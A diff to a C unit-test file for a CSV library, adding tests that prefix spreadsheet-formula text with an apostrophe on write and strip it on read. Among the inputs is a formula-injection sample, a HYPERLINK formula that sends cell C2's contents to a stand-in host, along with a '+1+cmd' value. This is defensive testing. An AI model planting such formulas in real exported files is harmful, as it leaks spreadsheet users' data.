@@ -540,7 +540,7 @@ static void test_write_field(void **state)
 		{ "a\rb", "\"a\rb\"", "\"a\rb\"" },
 		{ " lead", "\" lead\"", "\" lead\"" },
 		{ "trail ", "\"trail \"", "\"trail \"" },
-		{ "\ttab", "\"\ttab\"", "\"\ttab\"" },
+		{ "\ttab", "\"'\ttab\"", "\"'\ttab\"" },
 		{ "in side", "in side", "in side" },
 		{ "Caf\xc3\xa9", "Caf\xc3\xa9", "Caf\xc3\xa9" },
 	};
@@ -557,6 +557,61 @@ static void test_write_field(void **state)
 	csv_write_field(&sb, NULL, ',');
 	assert_string_equal(strbuf_str(&sb), "");
 	strbuf_release(&sb);
+}
+
+/* Text a spreadsheet would run as a formula gets an apostrophe in front; the
+ * reader takes exactly that apostrophe off again. */
+static void test_formula_guard(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *in, *out;
+	} cases[] = {
+		{ "=1+1", "'=1+1" },
+		{ "@SUM(1+1)", "'@SUM(1+1)" },
+		{ "=HYPERLINK(\"http://x/?\"&C2,\"klik\")",
+		  "\"'=HYPERLINK(\"\"http://x/?\"\"&C2,\"\"klik\"\")\"" },
+		{ "+1+cmd", "'+1+cmd" },
+		{ "-2+3", "'-2+3" },
+		{ "-A1", "'-A1" },
+		{ "\t=1", "\"'\t=1\"" },
+		{ "\r=1", "\"'\r=1\"" },
+		{ "\n=1", "\"'\n=1\"" },
+		{ "'=1", "''=1" },            /* an apostrophe of its own survives */
+		{ "''@x", "'''@x" },
+		{ "+6281234567890", "+6281234567890" },  /* a phone */
+		{ "-5", "-5" },
+		{ "-1.234,50", "\"-1.234,50\"" },
+		{ "+", "+" },
+		{ "-", "-" },
+		{ "'-5", "'-5" },
+		{ "'plain", "'plain" },
+		{ "a=b", "a=b" },
+		{ " =x", "\" =x\"" },
+	};
+	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
+		struct strbuf sb = STRBUF_INIT;
+		const char *row[] = { cases[i].in, "x" };
+		csv_write_field(&sb, cases[i].in, ',');
+		if (!str_eq(strbuf_str(&sb), cases[i].out))
+			fail_msg("case %zu: wrote [%s], expected [%s]", i, strbuf_str(&sb), cases[i].out);
+		strbuf_reset(&sb);
+		csv_write_row(&sb, row, 2, ',');
+		struct csv_reader *r = csv_open_mem(sb.buf, sb.len);
+		struct csv_row got;
+		struct err e;
+		assert_int_equal(csv_next(r, &got, &e), 1);
+		assert_int_equal(got.nfields, 2);
+		/* A quoted CR is read as LF (as ever). */
+		assert_string_equal(got.fields[0], *cases[i].in == '\r' ? "\n=1" : cases[i].in);
+		csv_close(r);
+		strbuf_release(&sb);
+	}
+	/* A hand-made file: an apostrophe before a formula is taken off, any other
+	 * apostrophe stays. */
+	struct csv_reader *r = OPEN_LIT("'=1,'x,'+62812,''=2,\"'@a\"\n");
+	expect_row(r, 1, 5, "=1", "'x", "'+62812", "'=2", "@a");
+	csv_close(r);
 }
 
 static void test_write_row(void **state)
@@ -712,6 +767,7 @@ int main(void)
 		cmocka_unit_test(test_cp1252_table),
 		cmocka_unit_test(test_utf8_valid),
 		cmocka_unit_test(test_write_field),
+		cmocka_unit_test(test_formula_guard),
 		cmocka_unit_test(test_write_row),
 		cmocka_unit_test(test_round_trip),
 		cmocka_unit_test(test_many_rows),
